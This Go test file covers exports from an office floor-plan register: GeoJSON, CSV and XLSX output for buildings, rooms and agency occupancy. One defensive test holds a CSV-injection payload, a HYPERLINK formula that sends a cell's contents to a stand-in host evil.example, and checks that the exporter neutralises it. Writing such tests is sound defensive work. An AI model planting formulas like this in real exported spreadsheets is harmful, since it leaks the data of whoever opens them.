package exports_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"math"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/paulmach/orb"
	"github.com/xuri/excelize/v2"

	"officemap/floorplan"
	"officemap/floorplan/exports"
	"officemap/floorplan/gpkg"
	"officemap/geo"
)

var ctx = context.Background()

// fixture is a small register: two buildings; in the first, two floors and three rooms, one of them an
// office of 20 m² held by one staff member of a municipal agency (standard 9 m²: over standard).
type fixture struct {
	s                 *gpkg.Store
	b1, b2            floorplan.Building
	f1, f2            floorplan.Floor
	office, meet, top floorplan.Room
	agency            floorplan.Agency
}

func rect(x, y, w, h float64) orb.Polygon {
	return orb.Polygon{{{x, y}, {x + w, y}, {x + w, y + h}, {x, y + h}, {x, y}}}
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	s, err := gpkg.Open(ctx, filepath.Join(t.TempDir(), "src.gpkg"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	f := &fixture{s: s}
	site := floorplan.Site{Name: "市行政中心", Category: "office.party_government", Ownership: floorplan.OwnershipRegistered,
		Records: []floorplan.OwnershipRecord{}}
	must(s.CreateSite(ctx, &site))
	f.b1 = floorplan.Building{SiteID: site.ID, Name: "一号楼", Georef: geo.Georef{Origin: orb.Point{119.974, 31.811}, RotationDeg: 20, Scale: 1}}
	must(s.CreateBuilding(ctx, &f.b1))
	f.b2 = floorplan.Building{SiteID: site.ID, Name: "二号楼", Georef: geo.Georef{Origin: orb.Point{119.975, 31.811}, Scale: 1}}
	must(s.CreateBuilding(ctx, &f.b2))
	f.f1 = floorplan.Floor{BuildingID: f.b1.ID, Ordinal: 0, Name: "1F"}
	must(s.CreateFloor(ctx, &f.f1))
	f.f2 = floorplan.Floor{BuildingID: f.b1.ID, Ordinal: 1, Name: "2F"}
	must(s.CreateFloor(ctx, &f.f2))
	f.agency = floorplan.Agency{Name: "市财政局", Level: floorplan.LevelMunicipal, Status: floorplan.AgencyActive}
	must(s.CreateAgency(ctx, &f.agency))
	f.office = floorplan.Room{FloorID: f.f1.ID, Number: "101", Usage: floorplan.UsageOffice, AgencyID: f.agency.ID, Geometry: rect(0, 0, 4, 5)}
	must(s.CreateRoom(ctx, &f.office))
	f.meet = floorplan.Room{FloorID: f.f1.ID, Number: "102", Name: "会议室", Usage: floorplan.UsageService, Geometry: rect(4, 0, 6, 5)}
	must(s.CreateRoom(ctx, &f.meet))
	f.top = floorplan.Room{FloorID: f.f2.ID, Number: "201", Usage: floorplan.UsageOffice, Geometry: rect(0, 0, 3, 3)}
	must(s.CreateRoom(ctx, &f.top))
	p := floorplan.Person{Name: "张三", AgencyID: f.agency.ID, Rank: floorplan.RankStaff, Status: floorplan.PersonActive}
	must(s.CreatePerson(ctx, &p))
	a := floorplan.Assignment{PersonID: p.ID, RoomID: f.office.ID, Kind: floorplan.AssignMain, Start: floorplan.Day(2020, 1, 1)}
	must(s.CreateAssignment(ctx, &a))
	return f
}

func TestLoad(t *testing.T) {
	f := newFixture(t)
	tests := []struct {
		name                     string
		opt                      exports.Options
		buildings, floors, rooms int
	}{
		{"all", exports.Options{}, 2, 2, 3},
		{"building", exports.Options{BuildingID: f.b1.ID}, 1, 2, 3},
		{"empty building", exports.Options{BuildingID: f.b2.ID}, 1, 0, 0},
		{"floor", exports.Options{FloorID: f.f2.ID}, 1, 1, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d, err := exports.Load(ctx, f.s, tt.opt)
			if err != nil {
				t.Fatal(err)
			}
			if len(d.Buildings) != tt.buildings || len(d.Floors) != tt.floors || len(d.Rooms) != tt.rooms {
				t.Errorf("%d buildings, %d floors, %d rooms", len(d.Buildings), len(d.Floors), len(d.Rooms))
			}
		})
	}
	if _, err := exports.Load(ctx, f.s, exports.Options{BuildingID: uuid.New()}); !errors.Is(err, floorplan.ErrNotFound) {
		t.Errorf("unknown building: %v", err)
	}
	if _, err := exports.Load(ctx, f.s, exports.Options{BuildingID: f.b2.ID, FloorID: f.f1.ID}); !errors.Is(err, floorplan.ErrInvalid) {
		t.Errorf("floor of another building: %v", err)
	}
}

func TestWriteGeoJSON(t *testing.T) {
	f := newFixture(t)
	d, err := exports.Load(ctx, f.s, exports.Options{BuildingID: f.b1.ID})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := exports.WriteGeoJSON(&buf, d, exports.GeoJSONOptions{}); err != nil {
		t.Fatal(err)
	}
	var fc struct {
		Type     string
		Features []struct {
			ID         string
			Geometry   struct{ Coordinates [][][2]float64 }
			Properties map[string]any
		}
	}
	if err := json.Unmarshal(buf.Bytes(), &fc); err != nil || fc.Type != "FeatureCollection" || len(fc.Features) != 3 {
		t.Fatalf("%v %+v", err, fc)
	}
	office := fc.Features[0]
	p := office.Properties
	if office.ID != f.office.ID.String() || p["number"] != "101" || p["area_m2"] != 20.0 || p["agency_name"] != "市财政局" ||
		p["status"] != "over_standard" || p["standard_m2"] != 9.0 || p["level"] != 0.0 || p["building_name"] != "一号楼" {
		t.Errorf("properties %v", p)
	}
	if occ, _ := p["occupants"].([]any); len(occ) != 1 || occ[0].(map[string]any)["name"] != "张三" {
		t.Errorf("occupants %v", p["occupants"])
	}
	// The lon/lat ring maps back to the room's local ring.
	fr := f.b1.Georef.Frame()
	for i, c := range office.Geometry.Coordinates[0] {
		back := fr.ToLocal(orb.Point{c[0], c[1]})
		want := geo.Normalize(f.office.Geometry)[0][i]
		if math.Hypot(back[0]-want[0], back[1]-want[1]) > 1e-6 {
			t.Errorf("vertex %d: %v maps back to %v, want %v", i, c, back, want)
		}
	}
	t.Run("local", func(t *testing.T) {
		var buf bytes.Buffer
		if err := exports.WriteGeoJSON(&buf, d, exports.GeoJSONOptions{Local: true}); err != nil {
			t.Fatal(err)
		}
		if s := buf.String(); !strings.Contains(s, `"crs":{"properties":{"name":"local"},"type":"name"}`) || !strings.Contains(s, `"rotation_deg":20`) {
			t.Errorf("local export lacks crs or georef: %.300s", s)
		}
		all, _ := exports.Load(ctx, f.s, exports.Options{})
		if err := exports.WriteGeoJSON(&buf, all, exports.GeoJSONOptions{Local: true}); !errors.Is(err, exports.ErrManyBuildings) {
			t.Errorf("two buildings in local metres: %v", err)
		}
	})
}

func TestWriteTables(t *testing.T) {
	f := newFixture(t)
	d, err := exports.Load(ctx, f.s, exports.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Run("csv", func(t *testing.T) {
		var buf bytes.Buffer
		if err := exports.WriteCSV(&buf, d, exports.TableOptions{}); err != nil {
			t.Fatal(err)
		}
		if !bytes.HasPrefix(buf.Bytes(), []byte("\xEF\xBB\xBF")) {
			t.Fatal("no UTF-8 byte-order mark")
		}
		rows, err := csv.NewReader(bufio.NewReader(bytes.NewReader(buf.Bytes()[3:]))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 4 || rows[0][0] != "楼宇" || rows[1][3] != "101" || rows[1][8] != "20.00" || rows[1][9] != "张三（局(处)级以下）" || rows[1][13] != "超标" {
			t.Errorf("rows %q", rows)
		}
		buf.Reset()
		if err := exports.WriteCSV(&buf, d, exports.TableOptions{Lang: "en"}); err != nil || !strings.Contains(buf.String(), "Building,Floor,Level,Room") || !strings.Contains(buf.String(), "over_standard") {
			t.Errorf("English CSV: %v %.200s", err, buf.String())
		}
	})
	t.Run("xlsx", func(t *testing.T) {
		x := xlsxOf(t, d)
		rows, err := x.GetRows("房间")
		if err != nil || len(rows) != 4 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		raw, _ := x.GetCellValue("房间", "I2", excelize.Options{RawCellValue: true})
		if v, err := strconv.ParseFloat(raw, 64); err != nil || v != 20 {
			t.Errorf("area cell %q is not the number 20", raw)
		}
	})
}

// TestTablesNeutraliseFormulas: a room named like a formula is written as text in CSV and XLSX (a quote
// before it), while the numbers stay numbers (CSV injection).
func TestTablesNeutraliseFormulas(t *testing.T) {
	f := newFixture(t)
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"点我")`
	r := floorplan.Room{FloorID: f.f2.ID, Number: "-B2", Name: evil, Usage: floorplan.UsageOffice, Geometry: rect(5, 0, 3, 3)}
	if err := f.s.CreateRoom(ctx, &r); err != nil {
		t.Fatal(err)
	}
	d, err := exports.Load(ctx, f.s, exports.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := exports.WriteCSV(&buf, d, exports.TableOptions{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	row := rowOf(t, rows, "'-B2")
	if row[4] != "'"+evil || row[8] != "9.00" {
		t.Errorf("CSV row %q: the name must be quoted, the area a number", row)
	}
	sheet, err := xlsxOf(t, d).GetRows("房间")
	if err != nil {
		t.Fatal(err)
	}
	row = rowOf(t, sheet, "'-B2")
	if row[4] != "'"+evil {
		t.Errorf("XLSX row %q: the name must be quoted", row)
	}
}

// rowOf returns the row whose room number (column D) is number.
func rowOf(t *testing.T, rows [][]string, number string) []string {
	t.Helper()
	for _, r := range rows {
		if len(r) > 8 && r[3] == number {
			return r
		}
	}
	t.Fatalf("no row for room %s in %q", number, rows)
	return nil
}

// xlsxOf writes d as XLSX and opens the workbook (closed when t ends).
func xlsxOf(t *testing.T, d *exports.Data) *excelize.File {
	t.Helper()
	var buf bytes.Buffer
	if err := exports.WriteXLSX(&buf, d, exports.TableOptions{}); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { x.Close() })
	return x
}
